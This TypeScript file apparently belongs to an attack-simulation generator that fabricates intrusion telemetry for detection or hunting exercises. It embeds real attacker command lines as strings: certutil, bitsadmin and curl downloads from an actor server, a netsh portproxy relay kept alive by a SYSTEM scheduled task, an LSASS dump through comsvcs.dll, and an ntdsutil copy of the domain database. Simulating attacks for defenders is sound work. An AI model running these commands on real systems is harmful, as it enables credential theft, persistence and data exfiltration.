import { after } from '../../chance.ts'
import { system32 } from '../../life/desk.ts'
import { createFile, openProcess, setRegistry } from '../../records/processes.ts'
import { asker, registerTask } from '../../records/security.ts'
import { hostsOf } from '../../world.ts'
import type { Play } from '../campaign.ts'
import {
  about,
  folderOf,
  lookAround,
  mistyped,
  openShell,
  pack,
  placesOf,
  remove,
  type Shell,
  sendOut,
  typed,
} from './built-ins.ts'
import { type Cast, connect, hangUp } from './cast.ts'

/** A service account whose password lay in a script needs no second factor. */
export function enterAsService(play: Play, { service, relay, office }: Cast): Shell {
  const { actor, chance, clock } = play
  const line = connect(play, service, office, 0)
  play.access(play.user(service), 'stolen password', line.time)
  const shell = openShell(play, { from: line.from, to: relay, account: service, by: 'remote shell', method: 'NTLM' })
  play.access(play.host(relay), 'remote shell', shell.process.started)
  lookAround(play, shell, chance.whole(3, 5))
  mistyped(play, shell, 'net.exe', chance.pick(['group "Domain Admins" /domain', 'group "Enterprise Admins" /domain']))
  const site = actor.server('list')
  const target = `${folderOf(play)}\\${actor.name('settings')}.${chance.pick(['txt', 'log', 'dat', 'csv'])}`
  const url = `http://${site.name}/${chance.hex(5)}.${chance.pick(['txt', 'crl', 'cer'])}`
  const [image, line_] = chance.pick([
    ['certutil.exe', `certutil -urlcache -f ${url} ${target}`],
    ['certutil.exe', `certutil -verifyctl -split -f ${url} ${target}`],
    ['bitsadmin.exe', `bitsadmin /transfer ${actor.name('transfer')} /download ${url} ${target}`],
    ['curl.exe', `curl -o ${target} ${url}`],
  ] as const)
  const fetch = typed(play, shell, [image, line_])
  const reached = play.reach({
    time: after(fetch.started, 0.5),
    host: relay,
    site,
    process: fetch,
    port: 80,
    path: url.slice(url.indexOf('/', 8)),
    bytesIn: chance.whole(900, 22_000),
  })
  const written = createFile(fetch, after(fetch.started, 1.4), target)
  play.step({
    stage: 'own tools',
    technique: 'T1105',
    what: 'a program of Windows fetches a list of commands as a text file',
    subjects: about(play, shell),
    events: [...placesOf(fetch), ...reached, written],
  })
  clock.goTo(after(written.time, 2))
  relayPort(play, shell, chance.whole(20_000, 48_000))
  remove(play, shell, target)
  hangUp(play, service, line)
  return shell
}

/** A port of the server leads on to a controller's remote desktop, and a task keeps it so. */
function relayPort(play: Play, shell: Shell, port: number): void {
  const { chance, actor, world, clock } = play
  const target = chance.pick(hostsOf(world, 'controller', 'jump', 'backup'))
  const add = `netsh interface portproxy add v4tov4 listenport=${port} connectport=3389 connectaddress=${target.address}`
  const process = typed(play, shell, ['netsh.exe', add])
  const key = `HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\*/${port}`
  const set = setRegistry(process, after(process.started, 0.3), key, `${target.address}/3389`)
  const used = play.connection(clock.next(), {
    from: shell.host.address,
    to: target.address,
    port: 3389,
    service: 'rdp',
    bytesOut: chance.whole(20_000, 900_000),
    bytesIn: chance.whole(200_000, 4_000_000),
    seconds: chance.whole(90, 1500),
  })
  play.step({
    stage: 'spread',
    technique: 'T1090.001',
    what: `${shell.host.name} passes a port on to ${target.name}`,
    subjects: about(play, shell),
    events: [...placesOf(process), set, ...used],
  })
  const task = actor.name('task')
  const made = typed(play, shell, [
    'schtasks.exe',
    `schtasks /create /tn ${task} /sc ${chance.pick(['onstart', 'daily'])} /ru SYSTEM /tr "${add}"`,
  ])
  const registered = registerTask(
    play.log(shell.host, made.started),
    asker(shell.account, shell.process.session),
    after(made.started, 0.4),
    { name: task, command: system32('netsh.exe'), arguments: add.slice(6), trigger: 'CalendarTrigger' },
  )
  play.step({
    stage: 'backdoor',
    technique: 'T1053.005',
    what: 'a task sets the port up again',
    subjects: about(play, shell),
    events: [...placesOf(made), ...registered],
  })
  play.access(play.host(shell.host), 'task', made.started)
}

/** On the jump host an administrator's password lies in memory; a library of Windows writes it to a file. */
export function stealAdministrator(play: Play, { service, office, relay, jump, admin }: Cast, own: Shell): Shell {
  const { actor, chance, clock } = play
  const line = connect(play, service, office, chance.whole(0, 1))
  const first = openShell(play, { from: line.from, to: own.host, account: service, by: 'remote shell', method: 'NTLM' })
  const remote = typed(play, first, [
    'wbem\\WMIC.exe',
    `wmic /node:${jump.name} process call create "cmd.exe /c ${chance.pick(['quser', 'tasklist /v', 'query user'])}"`,
  ])
  play.step({
    stage: 'discovery',
    technique: 'T1047',
    what: 'WMI is asked who is logged on at the jump host',
    subjects: about(play, first),
    events: placesOf(remote),
  })
  const shell = openShell(play, { from: relay, to: jump, account: service, by: 'wmi' })
  lookAround(play, shell, 2)
  const file = `${folderOf(play)}\\${actor.name('memory')}.${chance.pick(['dmp', 'log', 'dat', 'tmp'])}`
  const boot = play.boot(jump, clock.now())
  const dump = typed(play, shell, [
    'rundll32.exe',
    `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, ${chance.pick(['MiniDump', '#24'])} ${boot.lsass.id} ${file} full`,
  ])
  const opened = openProcess(
    dump,
    after(dump.started, 0.3),
    boot.lsass,
    '0x1fffff',
    'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\dbgcore.dll+6f2a',
  )
  const written = createFile(dump, after(dump.started, 1.1), file)
  play.step({
    stage: 'credential theft',
    technique: 'T1003.001',
    what: 'the memory of the logon service is written to a file',
    subjects: [...about(play, shell), play.user(admin)],
    events: [...placesOf(dump), opened, written],
  })
  play.access(play.user(admin), 'stolen password', written.time)
  play.access(play.host(jump), 'stolen password', shell.process.started)
  if (chance.happens(0.3)) {
    play.alert(after(dump.started, 40 + chance.next() * 200), {
      product: 'edr',
      title: chance.pick(['Memory of a system process was read', 'Unusual use of a system library']),
      severity: chance.pick(['medium', 'low']),
      host: jump,
    })
  }
  remove(play, shell, file)
  hangUp(play, service, line)
  return { ...shell, account: admin }
}

/** The directory's database is copied on a controller, packed, and leaves by way of the application server. */
export function copyDirectory(play: Play, { service, office, relay, controller, admin }: Cast, at: Shell): void {
  const { actor, chance, clock } = play
  const line = connect(play, service, office, chance.whole(0, 1))
  const middle = openShell(play, { from: line.from, to: relay, account: service, by: 'remote shell', method: 'NTLM' })
  const shell = openShell(play, { from: at.host, to: controller, account: admin, by: 'wmi' })
  play.access(play.host(controller), 'stolen password', shell.process.started)
  const folder = `${folderOf(play)}\\${actor.name('copy')}`
  const failed = typed(play, shell, ['vssadmin.exe', `vssadmin create shadow /for=${chance.pick(['d:', 'e:'])}`])
  play.step({
    stage: 'credential theft',
    technique: 'T1003.003',
    what: 'a shadow copy of a volume that is not there fails',
    subjects: about(play, shell),
    events: placesOf(failed),
  })
  const copy = typed(play, shell, [
    'ntdsutil.exe',
    `ntdsutil "${chance.pick(['ac i ntds', 'activate instance ntds'])}" "ifm" "create full ${folder}" q q`,
  ])
  const files = ['Active Directory\\ntds.dit', 'registry\\SYSTEM', 'registry\\SECURITY'].map((name, index) =>
    createFile(copy, after(copy.started, 9 + index * (3 + chance.next() * 5)), `${folder}\\${name}`),
  )
  play.step({
    stage: 'credential theft',
    technique: 'T1003.003',
    what: 'the directory’s database is copied',
    subjects: about(play, shell),
    events: [...placesOf(copy), ...files],
  })
  clock.goTo(after(copy.started, 60))
  const archive = pack(play, shell, folder)
  const fetched = `${folderOf(play)}\\${archive.slice(archive.lastIndexOf('\\') + 1)}`
  const moved = typed(play, middle, [
    'Robocopy.exe',
    `robocopy \\\\${controller.name}\\C$${folder.slice(2)} ${folderOf(play)}`,
  ])
  const arrived = createFile(moved, after(moved.started, 3 + chance.next() * 20), fetched)
  play.step({
    stage: 'collection',
    technique: 'T1074.002',
    what: 'the archive goes over to the application server',
    subjects: about(play, middle),
    events: [...placesOf(moved), arrived],
  })
  sendOut(play, middle, fetched, chance.whole(20, 90))
  remove(play, shell, archive)
  hangUp(play, service, line)
}
